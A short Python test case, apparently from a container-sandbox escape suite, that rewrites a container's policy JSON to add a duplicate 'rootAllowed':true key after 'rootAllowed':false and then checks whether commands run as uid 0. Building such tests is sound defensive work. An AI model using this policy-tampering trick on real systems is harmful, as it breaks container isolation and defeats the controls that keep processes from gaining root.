"""The record of what a container is held to says twice whether it may run as root."""

import glob

from bypass import refused

SOURCE = "idea"
WAY = "state"
STOPPED = refused("json")


def attack(t):
    t.up()
    for path in glob.glob("/run/closedclaw/*/%s.json" % t.id):
        t.write(path, t.read(path).replace('"rootAllowed":false', '"rootAllowed":false,"rootAllowed":true'), 0o600)
    return t.exec("id -u", user={"uid": 0, "gid": 0}).strip() == "0" and "uid 0"
